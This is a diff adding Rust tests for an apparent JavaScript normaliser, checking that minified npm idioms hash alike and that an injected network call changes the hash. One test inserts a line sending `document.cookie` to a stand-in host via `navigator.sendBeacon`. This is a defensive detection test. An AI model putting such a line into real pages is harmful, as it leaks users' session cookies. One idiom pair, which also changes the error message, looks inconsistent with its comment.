@@ -219,3 +219,92 @@ fn hand_minified_pairs() {
         "the normaliser must join every hand-minified pair"
     );
 }
+
+/// What oxc's printer and compressor do to real npm builds (found with the classifier
+/// example's `cosmetic` mode on `bench/corpus/npm.tsv`): each pair must hash the same, and
+/// each near miss beside it must not.
+const NPM_IDIOMS: &[(&str, &str, &str)] = &[
+    // The printer drops the parentheses of a right-nested chain.
+    (
+        "function f(a,b,c){return a&&(b&&c)}",
+        "function f(a,b,c){return a&&b&&c}",
+        "function f(a,b,c){return a&&(b||c)}",
+    ),
+    ("x = a || (b || c);", "x = a || b || c;", "x = a || b && c;"),
+    // A literal on either side of an equality.
+    (
+        "if (\"object\" == typeof module) f();",
+        "if (typeof module == `object`) f();",
+        "if (typeof module == `object`) g();",
+    ),
+    (
+        "r = -1 !== s.indexOf(t);",
+        "r = s.indexOf(t) !== -1;",
+        "r = s.indexOf(t) === -1;",
+    ),
+    // `typeof x != "undefined"` written as `typeof x < "u"`.
+    (
+        "g = \"undefined\" != typeof globalThis ? globalThis : self;",
+        "g = typeof globalThis < `u` ? globalThis : self;",
+        "g = typeof globalThis > `u` ? globalThis : self;",
+    ),
+    (
+        "if (\"undefined\" != typeof Symbol && Symbol.iterator) f();",
+        "typeof Symbol < \"u\" && Symbol.iterator && f();",
+        "typeof Symbol > \"u\" && Symbol.iterator && f();",
+    ),
+    // Logical assignment in every spelling.
+    (
+        "function g(m){m||(m=new Map);return m.get(1)}",
+        "function g(m){m||=new Map;return m.get(1)}",
+        "function g(m){m&&(m=new Map);return m.get(1)}",
+    ),
+    (
+        "function g(m){if(!m)m={};h(m)}",
+        "function g(m){m||=({});h(m)}",
+        "function g(m,n){n||(m={});h(m)}",
+    ),
+    // A `var` without a value is moved into a `for...in` head.
+    (
+        "function k(o){var p;for(p in o)return false;return true}",
+        "function k(o){for(var p in o)return!1;return!0}",
+        "function k(o){for(var p in o)return!0;return!0}",
+    ),
+    // A negated conditional's branches are swapped.
+    (
+        "v = null != a ? a : {};",
+        "v = a == null ? {} : a;",
+        "v = a == null ? a : {};",
+    ),
+    // `return void f()` is `f(); return`.
+    (
+        "function h(n){try{u()}catch(e){return void n(e)}w()}",
+        "function h(n){try{u()}catch(e){n(e);return}w()}",
+        "function h(n){try{u()}catch(e){n(e)}w()}",
+    ),
+    // `new` on a built-in error.
+    (
+        "throw new ReferenceError('x');",
+        "throw ReferenceError(`y`);",
+        "throw TypeError(`y`);",
+    ),
+];
+
+#[test]
+fn npm_idioms_converge() {
+    for (a, same, other) in NPM_IDIOMS {
+        assert!(hash(a).is_some(), "{a:?} does not parse");
+        assert_eq!(hash(a), hash(same), "{a:?} vs {same:?}");
+        assert_ne!(hash(a), hash(other), "{a:?} vs {other:?} must differ");
+    }
+}
+
+/// Every npm idiom above, with a call to a network sink inserted, is a behaviour change.
+#[test]
+fn npm_idioms_still_see_injected_sinks() {
+    for (a, _, _) in NPM_IDIOMS {
+        let injected =
+            format!("{a}\nnavigator.sendBeacon('https://collect.invalid/x', document.cookie);");
+        assert_ne!(hash(a), hash(&injected), "{a:?}");
+    }
+}
